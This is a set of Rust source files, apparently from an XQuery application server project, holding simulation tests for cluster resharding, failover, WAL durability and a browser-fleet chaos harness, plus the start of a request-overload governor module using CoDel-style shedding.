    cfg.docs = 12;
    cfg.cluster.shards = 2 + (mix(seed, 2) % 2) as usize;
    cfg.cluster.followers = (mix(seed, 3) % 3) as usize;
    cfg.cluster.ack_replicas = if cfg.cluster.followers == 0 {
        0
    } else {
        1 + (mix(seed, 4) % cfg.cluster.followers as u64) as usize
    };
    // stale routing: owners are cached across topology changes, so moved
    // documents force 421 fence hits and client re-resolution
    cfg.route_refresh_ms = 150 + mix(seed, 5) % 450;
    cfg.cluster.ship_truncate_permille = (mix(seed, 6) % 150) as u16;
    if mix(seed, 7).is_multiple_of(2) {
        cfg.cluster.repl_fault = Some(
            FaultPlan::seeded(0)
                .with_reply_lost_permille((mix(seed, 8) % 120) as u16)
                .with_truncate_permille((mix(seed, 9) % 80) as u16),
        );
    }
    // one to three topology changes, spread over the run
    let changes = 1 + mix(seed, 10) % 3;
    for k in 0..changes {
        let at = 200 + mix(seed, 11 + k) % (cfg.duration_ms - 300);
        let change = match mix(seed, 20 + k) % 4 {
            0 | 1 => TopologyChange::AddShard,
            2 => TopologyChange::Rebalance(mix(seed, 30 + k)),
            _ => TopologyChange::Decommission(
                (mix(seed, 40 + k) % cfg.cluster.shards as u64) as usize,
            ),
        };
        cfg.topology.push((at, change));
    }
    cfg.topology.sort_by_key(|(t, _)| *t);
    // a mid-run leader crash on some shards, composing with migrations
    for s in 0..cfg.cluster.shards {
        if !mix(seed, 50 + s as u64).is_multiple_of(3) {
            let at = 200 + mix(seed, 60 + s as u64) % (cfg.duration_ms - 300);
            cfg.leader_crashes.push((at, s));
        }
    }
    // a transient partition on one follower link per shard
    for s in 0..cfg.cluster.shards {
        if cfg.cluster.followers > 0 && mix(seed, 70 + s as u64).is_multiple_of(2) {
            let slot = 1 + (mix(seed, 80 + s as u64) % cfg.cluster.followers as u64) as usize;
            let from = mix(seed, 90 + s as u64) % cfg.duration_ms;
            let to = (from + 200 + mix(seed, 100 + s as u64) % 600).min(cfg.duration_ms);
            cfg.partitions.push((s, slot, from, to));
        }
    }
    cfg.update_rps = 30 + mix(seed, 110) % 40;
    cfg.read_rps = 20 + mix(seed, 111) % 50;
    cfg
}

proptest! {
    /// The headline tentpole invariant: random topology schedules compose
    /// with faults, partitions and concurrent failover, and still (a) no
    /// acked update is ever lost — at settle time and after one more
    /// forced failover round — and (b) no two shards ever both accept
    /// updates for one document within one topology epoch.
    #[test]
    fn resharding_loses_no_acked_update_and_never_dual_owns(case_seed in 0u64..1u64 << 48) {
        let cfg = reshard_scenario(case_seed);
        let (report, mut cluster) = run_cluster_sim(&cfg);
        prop_assert!(report.reshard.epoch_bumps >= 1, "no topology change applied: {:?}", cfg);
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "acked updates missing after resharding: {:?}",
            cfg
        );
        prop_assert_eq!(
            report.dual_owner_violations(),
            Vec::<String>::new(),
            "two shards accepted updates for one document in one epoch: {:?}",
            cfg
        );
        // every stale 421 was chased to the fresh owner, never surfaced
        prop_assert_eq!(report.reroutes, report.fence_refusals);
        // torment round: crash every surviving leader, re-elect, re-verify
        let mut now = cfg.duration_ms + 10_000;
        for s in 0..cluster.shard_count() {
            if cluster.has_leader(s) {
                cluster.crash_leader(s, now);
            }
        }
        let (settled, _) = cluster.quiesce(now);
        now = settled;
        for s in 0..cluster.shard_count() {
            if cluster.is_retired(s) {
                continue;
            }
            prop_assert!(
                cluster.has_leader(s),
                "shard {} failed to re-elect by {}ms ({:?})", s, now, cfg
            );
        }
        prop_assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "resharding + extra failover round lost acked updates: {:?}",
            cfg
        );
    }

    /// Bit-identical determinism with the whole resharding machinery on:
    /// counters, ledger, epochs, reroutes — a pure function of the config.
    #[test]
    fn reshard_reports_are_bit_identical_per_seed(case_seed in 0u64..1u64 << 48) {
        let cfg = reshard_scenario(case_seed);
        let (a, _) = run_cluster_sim(&cfg);
        let (b, _) = run_cluster_sim(&cfg);
        prop_assert_eq!(a, b);
    }

    /// Ring-balance property (satellite): over random seeds and shard
    /// counts, the ring spreads 1k URIs within a 3× max/min load factor,
    /// and growing the ring by one shard moves at most ~(1/N + slack) of
    /// the keys — every moved key landing on the joining shard.
    #[test]
    fn ring_balances_load_and_adding_a_shard_moves_few_keys(
        seed in 0u64..u64::MAX,
        n in 2usize..9,
    ) {
        let uris: Vec<String> = (0..1_000).map(|i| format!("doc-{i}.xml")).collect();
        let r = Router::new(n, seed);
        let mut counts = vec![0u64; n];
        for u in &uris {
            counts[r.owner(u)] += 1;
        }
        let max = *counts.iter().max().unwrap();
        let min = *counts.iter().min().unwrap();
        prop_assert!(min > 0, "a shard got no load at all: {:?}", counts);
        prop_assert!(max <= 3 * min, "imbalance beyond 3x: {:?}", counts);
        // minimal disruption: grow by one member, count moved keys
        let members: Vec<usize> = (0..=n).collect();
        let grown = Router::with_members(&members, seed);
        let moved = uris
            .iter()
            .filter(|u| grown.owner(u) != r.owner(u))
            .count();
        let bound = 1_000 / (n + 1) + 150;
        prop_assert!(
            moved <= bound,
            "adding one shard moved {} of 1000 keys (bound {})", moved, bound
        );
        for u in &uris {
            if grown.owner(u) != r.owner(u) {
                prop_assert_eq!(grown.owner(u), n, "moved keys must land on the joiner");
            }
        }
    }
}

/// Scripted fence regression: clients that never refresh their routes hit
/// the old owner of every migrated document, get 421 + the new epoch, and
/// retry against the fresh owner — no surfaced errors, no lost acks.
#[test]
fn stale_clients_chase_fences_across_a_mid_run_grow_and_rebalance() {
    let mut cfg = ClusterSimConfig::steady(mix(4242, env_seed()), 2_400);
    cfg.docs = 12;
    cfg.cluster.shards = 2;
    cfg.cluster.followers = 1;
    cfg.cluster.ack_replicas = 1;
    cfg.route_refresh_ms = 1_000_000; // cache forever: only 421s re-resolve
    cfg.topology = vec![
        (600, TopologyChange::AddShard),
        (1_500, TopologyChange::Rebalance(3)),
    ];
    cfg.update_rps = 60;
    cfg.read_rps = 60;
    let (report, cluster) = run_cluster_sim(&cfg);
    assert!(report.acked_updates > 0);
    assert_eq!(report.reshard.epoch_bumps, 2);
    assert!(
        report.reshard.docs_moved > 0,
        "grow + rebalance moved nothing: {:?}",
        report.reshard
    );
    assert!(
        report.fence_refusals > 0,
        "stale clients never hit a fence: {:?}",
        report
    );
    assert_eq!(report.reroutes, report.fence_refusals);
    assert_eq!(report.missing_acked_updates(&cluster), Vec::<String>::new());
    assert_eq!(report.dual_owner_violations(), Vec::<String>::new());
    assert_eq!(cluster.migrations_in_flight(), 0);
    assert_eq!(report.final_epoch, cluster.epoch());
}

/// Scripted decommission regression: a shard leaves mid-run while updates
/// keep flowing; it drains, retires, and every acked update survives on
/// the remaining shards.
#[test]
fn mid_run_decommission_drains_and_keeps_every_acked_update() {
    let mut cfg = ClusterSimConfig::steady(mix(99, env_seed()), 2_400);
    cfg.docs = 12;
    cfg.cluster.shards = 3;
    cfg.cluster.followers = 1;
    cfg.cluster.ack_replicas = 1;
    cfg.route_refresh_ms = 300;
    cfg.topology = vec![(700, TopologyChange::Decommission(1))];
    cfg.update_rps = 50;
    let (report, cluster) = run_cluster_sim(&cfg);
    assert!(report.acked_updates > 0);
    assert!(
        cluster.is_retired(1),
        "the decommissioned shard must retire"
    );
    assert_eq!(report.reshard.drains, 1);
    assert!(report.reshard.docs_moved > 0);
    for i in 0..cfg.docs {
        assert_ne!(
            cluster.owner(&format!("d{i}.xml")),
            1,
            "a document is still routed to the retired shard"
        );
    }
    assert_eq!(report.missing_acked_updates(&cluster), Vec::<String>::new());
    assert_eq!(report.dual_owner_violations(), Vec::<String>::new());
}
