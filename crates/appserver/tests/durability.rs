//! Smoke test for the durability counters surfaced through
//! `ServerMetrics`: a load → update → checkpoint → crash → recover cycle
//! must bump `wal_appends`, `wal_fsyncs`, `checkpoints` and `recoveries`,
//! and a torn WAL tail must show up as `torn_tails_dropped`.

use xqib_appserver::server::AppServer;
use xqib_appserver::xmldb::{DurabilityConfig, XmlDb};
use xqib_storage::{VirtualDisk, CKPT_SLOTS};

#[test]
fn durability_counters_flow_through_server_metrics() {
    let disk = VirtualDisk::new();
    let mut server = AppServer::new_durable(
        "<library><article id=\"a1\"><title>T</title></article></library>",
        disk.clone(),
        DurabilityConfig::default(),
    )
    .unwrap();

    let r = server
        .handle("/update?xq=insert node <note>remember</note> into doc('corpus.xml')/library");
    assert_eq!(r.status, 200);
    assert!(
        server.metrics.wal_appends >= 2,
        "corpus load + update journaled, got {}",
        server.metrics.wal_appends
    );
    assert!(server.metrics.wal_fsyncs >= 2, "each op group-committed");
    assert_eq!(
        server.metrics.checkpoints, 0,
        "nothing crossed the threshold"
    );

    server.db.checkpoint().unwrap();
    // metrics mirror on the next request
    let r = server.handle("/query?xq=count(doc('corpus.xml')//note)");
    assert_eq!(r.body, "1");
    assert_eq!(server.metrics.checkpoints, 1);
    assert_eq!(server.metrics.recoveries, 0);

    drop(server);
    disk.crash();
    let mut server = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
    assert_eq!(server.metrics.recoveries, 1);
    assert_eq!(server.metrics.torn_tails_dropped, 0, "nothing was torn");
    let r = server.handle("/query?xq=count(doc('corpus.xml')//note)");
    assert_eq!(r.body, "1", "checkpointed update survived");
}

/// Satellite regression: when *every* checkpoint slot fails verification,
/// recovery must still come up (typed, not a panic), count the loss, and
/// surface it on the `/metrics` route as `<ckpt-slots-lost>`.
#[test]
fn losing_every_checkpoint_slot_is_surfaced_on_metrics() {
    let disk = VirtualDisk::new();
    let mut server = AppServer::new_durable(
        "<library><article id=\"a1\"><title>T</title></article></library>",
        disk.clone(),
        DurabilityConfig::default(),
    )
    .unwrap();
    let r = server
        .handle("/update?xq=insert node <note>remember</note> into doc('corpus.xml')/library");
    assert_eq!(r.status, 200);
    server.db.checkpoint().unwrap();
    drop(server);

    // power loss, then latent rot lands in every written slot
    disk.crash();
    for slot in CKPT_SLOTS {
        if let Some(mut img) = disk.read(slot) {
            if let Some(b) = img.get_mut(12) {
                *b ^= 0xff;
            }
            disk.write_file(slot, &img);
        }
    }

    let mut server = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
    assert_eq!(server.metrics.recoveries, 1);
    let r = server.handle("/metrics");
    assert_eq!(r.status, 200);
    assert!(
        r.body.contains("<ckpt-slots-lost>1</ckpt-slots-lost>"),
        "the lost-snapshot alarm must reach /metrics: {}",
        r.body
    );
}

/// Reads are verified end to end on the single-node server too: a body
/// that no longer hashes to the digest sealed at journal time is refused
/// with `XQIB0019`, counted, and surfaced on `/metrics` — never served.
#[test]
fn a_digest_mismatched_doc_read_is_refused_with_a_typed_error() {
    let disk = VirtualDisk::new();
    let mut server =
        AppServer::new_durable("<library/>", disk, DurabilityConfig::default()).unwrap();
    let ok = server.handle("/doc?uri=corpus.xml");
    assert_eq!(ok.status, 200);
    assert!(server.metrics.doc_reads_verified >= 1);

    // model memory/media divergence: the sealed digest no longer matches
    assert!(server.db.poison_recorded_digest("corpus.xml"));
    let r = server.handle("/doc?uri=corpus.xml");
    assert_eq!(r.status, 500);
    assert!(r.body.contains("XQIB0019"), "typed refusal: {}", r.body);
    let m = server.handle("/metrics");
    assert!(
        m.body.contains("<doc-reads-refused>1</doc-reads-refused>"),
        "refusal must reach /metrics: {}",
        m.body
    );
}

#[test]
fn torn_tails_are_counted() {
    let disk = VirtualDisk::new();
    // group_commit high enough that nothing ever fsyncs on its own
    let cfg = DurabilityConfig {
        group_commit: 1000,
        checkpoint_threshold: 0,
    };
    let mut db = XmlDb::durable(disk.clone(), cfg);
    db.load("d.xml", "<r><v>keep</v></r>").unwrap();
    db.commit().unwrap();
    // an unsynced update: the crash tears it off the log mid-frame
    db.query("replace value of node (doc('d.xml')/*)[1] with 'gone'")
        .unwrap();
    drop(db);
    // a seed whose torn-prefix draw keeps part (not all) of the tail
    let mut found_partial_tear = false;
    for seed in 0..64u64 {
        let probe = disk.clone_image();
        probe.set_plan(xqib_storage::StorageFaultPlan::seeded(seed));
        probe.crash();
        let recovered = XmlDb::recover(probe, cfg).unwrap();
        let stats = recovered.durability_stats();
        assert_eq!(stats.recoveries, 1);
        // committed prefix (tail torn) or one state further (the whole
        // unsynced frame happened to survive the tear) — never in between
        let got = recovered.serialize("d.xml").unwrap();
        assert!(
            got == "<r><v>keep</v></r>" || got == "<r>gone</r>",
            "seed {seed}: recovered a non-boundary state: {got}"
        );
        if stats.torn_tails_dropped > 0 {
            found_partial_tear = true;
            // the unsynced tail is two frames (record seq 3 + digest seq 4);
            // a tear inside the record must drop the update, while a tear
            // that only clips the digest frame legitimately keeps it
            match recovered.committed_seq() {
                2 => assert_eq!(got, "<r><v>keep</v></r>", "seed {seed}: torn yet applied"),
                3 => assert_eq!(got, "<r>gone</r>", "seed {seed}: record survived the tear"),
                other => panic!("seed {seed}: recovered to impossible seq {other}"),
            }
        }
    }
    assert!(
        found_partial_tear,
        "no seed in 0..64 produced a countable torn tail"
    );
}
