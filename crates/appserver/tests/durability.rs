//! Smoke test for the durability counters surfaced through
//! `ServerMetrics`: a load → update → checkpoint → crash → recover cycle
//! must bump `wal_appends`, `wal_fsyncs`, `checkpoints` and `recoveries`,
//! and a torn WAL tail must show up as `torn_tails_dropped`.

use xqib_appserver::server::AppServer;
use xqib_appserver::xmldb::{DurabilityConfig, XmlDb};
use xqib_storage::VirtualDisk;

#[test]
fn durability_counters_flow_through_server_metrics() {
    let disk = VirtualDisk::new();
    let mut server = AppServer::new_durable(
        "<library><article id=\"a1\"><title>T</title></article></library>",
        disk.clone(),
        DurabilityConfig::default(),
    )
    .unwrap();

    let r = server
        .handle("/update?xq=insert node <note>remember</note> into doc('corpus.xml')/library");
    assert_eq!(r.status, 200);
    assert!(
        server.metrics.wal_appends >= 2,
        "corpus load + update journaled, got {}",
        server.metrics.wal_appends
    );
    assert!(server.metrics.wal_fsyncs >= 2, "each op group-committed");
    assert_eq!(
        server.metrics.checkpoints, 0,
        "nothing crossed the threshold"
    );

    server.db.checkpoint().unwrap();
    // metrics mirror on the next request
    let r = server.handle("/query?xq=count(doc('corpus.xml')//note)");
    assert_eq!(r.body, "1");
    assert_eq!(server.metrics.checkpoints, 1);
    assert_eq!(server.metrics.recoveries, 0);

    drop(server);
    disk.crash();
    let mut server = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
    assert_eq!(server.metrics.recoveries, 1);
    assert_eq!(server.metrics.torn_tails_dropped, 0, "nothing was torn");
    let r = server.handle("/query?xq=count(doc('corpus.xml')//note)");
    assert_eq!(r.body, "1", "checkpointed update survived");
}

#[test]
fn torn_tails_are_counted() {
    let disk = VirtualDisk::new();
    // group_commit high enough that nothing ever fsyncs on its own
    let cfg = DurabilityConfig {
        group_commit: 1000,
        checkpoint_threshold: 0,
    };
    let mut db = XmlDb::durable(disk.clone(), cfg);
    db.load("d.xml", "<r><v>keep</v></r>").unwrap();
    db.commit().unwrap();
    // an unsynced update: the crash tears it off the log mid-frame
    db.query("replace value of node (doc('d.xml')/*)[1] with 'gone'")
        .unwrap();
    drop(db);
    // a seed whose torn-prefix draw keeps part (not all) of the tail
    let mut found_partial_tear = false;
    for seed in 0..64u64 {
        let probe = disk.clone_image();
        probe.set_plan(xqib_storage::StorageFaultPlan::seeded(seed));
        probe.crash();
        let recovered = XmlDb::recover(probe, cfg).unwrap();
        let stats = recovered.durability_stats();
        assert_eq!(stats.recoveries, 1);
        // committed prefix (tail torn) or one state further (the whole
        // unsynced frame happened to survive the tear) — never in between
        let got = recovered.serialize("d.xml").unwrap();
        assert!(
            got == "<r><v>keep</v></r>" || got == "<r>gone</r>",
            "seed {seed}: recovered a non-boundary state: {got}"
        );
        if stats.torn_tails_dropped > 0 {
            assert_eq!(got, "<r><v>keep</v></r>", "seed {seed}: torn yet applied");
            found_partial_tear = true;
        }
    }
    assert!(
        found_partial_tear,
        "no seed in 0..64 produced a countable torn tail"
    );
}
