//! The closed-loop browser-fleet chaos harness (ISSUE 8), end to end:
//! real `Plugin` clients sharing one virtual timeline with the replicated
//! cluster, running the paper's §6 scenarios while net faults, disk
//! faults, partitions and leader crashes play out underneath.
//!
//! The invariants under test:
//! - **no acked cart op is ever lost**: a readyState-4 completion on an
//!   `/update` means the op survives failover, always;
//! - **exactly one observable outcome per fetch**: completions + stale
//!   events + error events == `behind` calls, per client;
//! - **degraded renders converge**: once chaos clears, every Elsevier
//!   render and mash-up city count matches the reference;
//! - **bit-identical determinism**: same config ⇒ same `FleetReport`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use proptest::prelude::*;
use xqib_appserver::cluster::Submitted;
use xqib_appserver::fleet::{run_fleet, FleetConfig, Scenario};

/// Deterministic CI matrix hook: `XQIB_FLEET_SEED` is mixed into every
/// fleet seed, so the same suite explores different chaos schedules per
/// job (same convention as `XQIB_FAULT_SEED` in crates/core).
fn env_seed() -> u64 {
    std::env::var("XQIB_FLEET_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[test]
fn quiet_fleet_offloads_and_converges() {
    let cfg = FleetConfig::quiet(1 ^ env_seed());
    let (report, _cluster) = run_fleet(&cfg).unwrap();
    let t = &report.totals;

    assert!(report.converged, "healthy fleet must converge");
    assert_eq!(report.missing_acked, vec![]);
    assert_eq!(report.outcome_mismatches, vec![]);
    assert_eq!(
        t.completions + t.stale_events + t.error_events,
        t.behind_calls
    );
    assert_eq!(t.stale_events, 0, "no chaos, no degradation");
    assert_eq!(t.error_events, 0);
    assert_eq!(t.timeouts, 0);

    // §6.1: repeat visits to the same whole document are answered from
    // the client cache — the origin sees a fraction of the fetches
    assert!(
        t.origin_requests < t.behind_calls,
        "whole-document caching must offload the origin ({} origin vs {} fetches)",
        t.origin_requests,
        t.behind_calls
    );
    assert!(
        t.cache_hit_permille > 0,
        "offload ratio must be visible in the stats"
    );

    // every cart op was acked durably
    for c in report
        .clients
        .iter()
        .filter(|c| c.scenario == Scenario::Cart)
    {
        assert_eq!(
            c.acked.len(),
            cfg.interactions_per_client,
            "client {} lost cart acks without chaos",
            c.id
        );
    }
}

#[test]
fn chaotic_fleet_holds_the_invariants() {
    let (report, _cluster) = run_fleet(&FleetConfig::chaotic(7 ^ env_seed())).unwrap();
    let t = &report.totals;

    // headline invariants: durability of acks, exactly-one-outcome,
    // post-recovery convergence — under the full chaos menu
    assert_eq!(report.missing_acked, vec![], "acked cart ops lost");
    assert_eq!(report.outcome_mismatches, vec![], "fetch outcome mismatch");
    assert!(report.converged, "degraded renders must converge");
    assert_eq!(
        t.completions + t.stale_events + t.error_events,
        t.behind_calls
    );

    // the chaos actually happened: both scheduled leader crashes promote
    assert!(
        report.replication.failovers >= 2,
        "scheduled leader crashes must fail over (saw {})",
        report.replication.failovers
    );
    assert!(report.replication.blackout_ms > 0);
    // lossy links put the retry machinery to work
    assert!(t.retries > 0, "chaos run exercised no retries");
}

#[test]
fn identical_seeds_produce_bit_identical_reports() {
    let cfg = FleetConfig::chaotic(3 ^ env_seed());
    let (a, _) = run_fleet(&cfg).unwrap();
    let (b, _) = run_fleet(&cfg).unwrap();
    assert_eq!(a, b, "same config must yield a bit-identical FleetReport");
}

#[test]
fn fleet_counters_surface_on_the_metrics_route() {
    let (report, mut cluster) = run_fleet(&FleetConfig::quiet(5 ^ env_seed())).unwrap();
    cluster.record_fleet(&report.totals);
    let done = match cluster.submit("/metrics", report.duration_ms + 1) {
        Submitted::Done(d) => d,
        Submitted::Pending(_) => panic!("metrics cannot pend"),
    };
    assert_eq!(done.response.status, 200);
    let body = &done.response.body;
    let expect = format!("<fleet-clients>{}</fleet-clients>", report.totals.clients);
    assert!(body.contains(&expect), "metrics missing {expect}: {body}");
    assert!(
        body.contains(&format!(
            "<fleet-cache-hit-permille>{}</fleet-cache-hit-permille>",
            report.totals.cache_hit_permille
        )),
        "metrics missing the offload ratio: {body}"
    );
    assert!(body.contains("<fleet-behind-calls>"));
}

/// A small chaotic fleet for the property test: the full fault menu but
/// few clients, so each case stays fast.
fn small_chaotic(seed: u64) -> FleetConfig {
    let mut cfg = FleetConfig::chaotic(seed);
    cfg.elsevier_clients = 1;
    cfg.elsevier_nocache_clients = 1;
    cfg.mashup_clients = 1;
    cfg.cart_clients = 2;
    cfg.interactions_per_client = 2;
    cfg
}

proptest! {
    /// Across random chaos schedules: an acked cart op is never lost,
    /// every `behind` fetch yields exactly one observable outcome, and a
    /// re-run of the same seed is bit-identical.
    #[test]
    fn prop_fleet_invariants_hold_under_random_chaos(seed in 0u64..10_000) {
        let cfg = small_chaotic(seed ^ env_seed());
        let (report, _cluster) = run_fleet(&cfg).unwrap();
        prop_assert_eq!(&report.missing_acked, &vec![]);
        prop_assert_eq!(&report.outcome_mismatches, &vec![]);
        let t = &report.totals;
        prop_assert_eq!(
            t.completions + t.stale_events + t.error_events,
            t.behind_calls
        );
        let (again, _cluster) = run_fleet(&cfg).unwrap();
        prop_assert_eq!(report, again);
    }
}
