//! Overload control for the server tier: the [`RequestGovernor`] wraps an
//! [`AppServer`] with a bounded, class-prioritised admission queue,
//! per-request deadlines propagated into the evaluator as fuel budgets,
//! CoDel-style queue-delay shedding, and graceful degradation of
//! render-class requests to cached whole-document snapshots.
//!
//! Everything runs in *virtual time*: the governor models a single-threaded
//! server whose service time per request is derived from the engine fuel
//! the evaluation actually consumed ([`GovernorConfig::fuel_per_ms`]).
//! Same inputs, same clock, same decisions — the chaos simulator
//! (`crate::simulate`) drives millions of virtual requests through this
//! code deterministically.
//!
//! The control loop per dequeued request:
//!
//! 1. **Admission** (at [`GovernedServer::submit`]): each priority class
//!    has a bounded queue; overflow is shed immediately with
//!    `503` + `Retry-After` (the client should back off — the queue being
//!    full means waiting would blow the deadline anyway).
//! 2. **Queue-delay shedding** (at dequeue): a simplified deterministic
//!    CoDel — once the observed queue delay stays above
//!    [`GovernorConfig::codel_target_ms`] for a full
//!    [`GovernorConfig::codel_interval_ms`] window, requests are dropped at
//!    an increasing rate (interval/√count) until the delay recovers. This
//!    sheds *standing* queues while tolerating bursts shorter than one
//!    interval.
//! 3. **Deadline**: the time already spent queueing is subtracted from the
//!    class deadline; the remainder is converted to engine fuel
//!    (`remaining_ms × fuel_per_ms`) and installed via
//!    `DynamicContext::set_deadline_fuel`. Exhaustion raises `XQIB0014`
//!    (HTTP 504). Committing a pending update list is a point of no
//!    return, so a deadline-killed `/update` has applied — and journaled —
//!    nothing.
//! 4. **Degradation**: when a render-class request (`/page`, `/index`,
//!    `/doc`) blows its deadline, the governor answers with the cached
//!    whole-document snapshot (`X-XQIB-Degraded`) instead of failing —
//!    the paper's own "serve whole documents rather than individual
//!    queries" caching argument (§6.1).

use std::collections::VecDeque;

use crate::server::{split_url, AppServer, ServerResponse};

/// Request priority classes, in dequeue order: interactive page renders
/// first, updates next (they hold client-side state hostage), ad-hoc
/// queries last (the legacy fine-grained API the migration exists to
/// retire).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    Render = 0,
    Update = 1,
    Query = 2,
}

impl Class {
    pub const ALL: [Class; 3] = [Class::Render, Class::Update, Class::Query];

    /// The class of a request URL.
    pub fn of_url(url: &str) -> Class {
        let (path, _) = split_url(url);
        match path.as_str() {
            "/update" => Class::Update,
            "/query" => Class::Query,
            // /page, /index, /doc, /metrics and everything else: the
            // interactive render/REST surface
            _ => Class::Render,
        }
    }

    pub fn index(self) -> usize {
        self as usize
    }

    pub fn name(self) -> &'static str {
        match self {
            Class::Render => "render",
            Class::Update => "update",
            Class::Query => "query",
        }
    }
}

/// Tuning knobs for the governor.
#[derive(Debug, Clone)]
pub struct GovernorConfig {
    /// Bounded admission queue capacity, per class. Overflow is shed with
    /// 503 + `Retry-After`.
    pub queue_capacity: usize,
    /// Per-class deadline in virtual milliseconds, indexed by
    /// [`Class::index`]. `0` disables the deadline for that class.
    pub deadline_ms: [u64; 3],
    /// Engine capacity: fuel units the server retires per virtual
    /// millisecond. Converts deadlines into fuel budgets and consumed fuel
    /// back into service time.
    pub fuel_per_ms: u64,
    /// CoDel target: the acceptable standing queue delay.
    pub codel_target_ms: u64,
    /// CoDel interval: how long the delay must stay above target before
    /// shedding starts. `u64::MAX` disables queue-delay shedding.
    pub codel_interval_ms: u64,
    /// The `Retry-After` value (seconds) attached to shed responses.
    pub retry_after_s: u64,
    /// Degrade render-class deadline misses to cached snapshots instead of
    /// failing them with 504.
    pub degrade_renders: bool,
}

impl Default for GovernorConfig {
    fn default() -> Self {
        // Calibration: with the default corpus a `/page` render costs
        // ≈2.1k fuel, the `/index` page ≈3.3k and an ad-hoc count query
        // ≈1.6k, so at 100 fuel/ms renders take ≈20–35 virtual ms (a
        // mixed workload saturates around 60 req/s) and the 100 ms render
        // deadline leaves honest headroom under moderate queueing.
        GovernorConfig {
            queue_capacity: 64,
            deadline_ms: [100, 150, 200], // render, update, query
            fuel_per_ms: 100,
            codel_target_ms: 20,
            codel_interval_ms: 100,
            retry_after_s: 1,
            degrade_renders: true,
        }
    }
}

impl GovernorConfig {
    /// The ungoverned baseline: unbounded FIFO admission, no deadlines, no
    /// queue-delay shedding, no degradation. Used by the simulator as the
    /// "before" arm of the overload experiment.
    pub fn unbounded() -> Self {
        GovernorConfig {
            queue_capacity: usize::MAX,
            deadline_ms: [0, 0, 0],
            fuel_per_ms: 100,
            codel_target_ms: u64::MAX,
            codel_interval_ms: u64::MAX,
            retry_after_s: 1,
            degrade_renders: false,
        }
    }
}

/// Overload counters (and the raw queue-delay samples the percentiles are
/// computed from). Mirrored into `ServerMetrics` via
/// [`crate::ServerMetrics::record_overload`].
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct OverloadStats {
    /// Requests offered to the governor.
    pub submitted: u64,
    /// Requests that entered the admission queue.
    pub admitted: u64,
    /// Admitted requests that completed (any status, incl. degraded).
    pub completed: u64,
    /// Requests shed at admission (queue full).
    pub shed_queue_full: u64,
    /// Requests shed at dequeue (CoDel standing-queue-delay).
    pub shed_queue_delay: u64,
    /// Render-class deadline misses answered from the snapshot cache.
    pub degraded: u64,
    /// Requests whose deadline expired (in queue or in the evaluator).
    pub deadline_exceeded: u64,
    /// Queue delay of every dequeued request, virtual ms, in dequeue order.
    pub queue_delays: Vec<u64>,
}

impl OverloadStats {
    /// Total shed requests, both flavours.
    pub fn shed(&self) -> u64 {
        self.shed_queue_full + self.shed_queue_delay
    }

    /// The `pct`-th percentile queue delay (nearest-rank over all dequeued
    /// requests; 0 when nothing was dequeued).
    pub fn queue_delay_percentile(&self, pct: u64) -> u64 {
        if self.queue_delays.is_empty() {
            return 0;
        }
        let mut sorted = self.queue_delays.clone();
        sorted.sort_unstable();
        // nearest-rank (ceiling) convention: p99 of 5 samples is the max
        let rank = (sorted.len() * pct.min(100) as usize).div_ceil(100);
        sorted[rank.max(1) - 1]
    }
}

/// Why a request finished the way it did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Served normally (any handler status, including 4xx/5xx errors the
    /// route itself produced).
    Served,
    /// Shed at admission: the class queue was full.
    ShedQueueFull,
    /// Shed at dequeue: standing queue delay exceeded the CoDel target.
    ShedQueueDelay,
    /// Deadline miss degraded to a cached whole-document snapshot.
    Degraded,
    /// Deadline miss failed with 504 (`XQIB0014`).
    DeadlineExceeded,
}

/// One finished request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Completion {
    pub id: u64,
    pub class: Class,
    /// Virtual time the request arrived at the governor.
    pub arrival: u64,
    /// Virtual time the response left the server.
    pub finished: u64,
    /// Time spent in the admission queue (0 for shed-at-admission).
    pub queue_delay_ms: u64,
    pub outcome: Outcome,
    pub response: ServerResponse,
}

/// What [`GovernedServer::submit`] decided.
#[derive(Debug)]
pub enum Admission {
    /// Admitted; the id will reappear in exactly one [`Completion`].
    Queued(u64),
    /// Shed at admission with the finished 503 response.
    Rejected(Completion),
}

#[derive(Debug, Clone)]
struct Pending {
    id: u64,
    url: String,
    class: Class,
    arrival: u64,
}

/// Simplified deterministic CoDel (Controlling Queue Delay, Nichols &
/// Jacobson): tracks when the dequeue-observed delay first rose above
/// `target`; once it has stayed above for `interval`, enters the dropping
/// state and sheds at `interval/√count` spacing until a dequeue observes a
/// delay back under target. Deviations from the reference algorithm: no
/// packet-size scaling, and the drop count resets fully on recovery.
#[derive(Debug, Clone)]
struct CoDel {
    target_ms: u64,
    interval_ms: u64,
    first_above_at: Option<u64>,
    dropping: bool,
    drop_next: u64,
    count: u64,
}

impl CoDel {
    fn new(target_ms: u64, interval_ms: u64) -> Self {
        CoDel {
            target_ms,
            interval_ms,
            first_above_at: None,
            dropping: false,
            drop_next: 0,
            count: 0,
        }
    }

    /// Observes one dequeue with queue delay `delay` at virtual time `now`;
    /// returns whether this request should be shed.
    fn should_shed(&mut self, delay: u64, now: u64) -> bool {
        if self.target_ms == u64::MAX || self.interval_ms == u64::MAX {
            return false;
        }
        if delay <= self.target_ms {
            self.first_above_at = None;
            self.dropping = false;
            self.count = 0;
            return false;
        }
        let first = *self.first_above_at.get_or_insert(now);
        if !self.dropping {
            if now.saturating_sub(first) < self.interval_ms {
                return false; // a burst shorter than one interval rides out
            }
            self.dropping = true;
            self.count = 0;
            self.drop_next = now;
        }
        if now >= self.drop_next {
            self.count += 1;
            self.drop_next = now + self.interval_ms / isqrt(self.count).max(1);
            true
        } else {
            false
        }
    }
}

/// Integer √n (floor), deterministic.
fn isqrt(n: u64) -> u64 {
    if n < 2 {
        return n;
    }
    let mut x = n;
    let mut y = x.div_ceil(2);
    while y < x {
        x = y;
        y = (x + n / x) / 2;
    }
    x
}

/// The admission/scheduling layer itself (state only; the pairing with an
/// [`AppServer`] lives in [`GovernedServer`]).
#[derive(Debug)]
pub struct RequestGovernor {
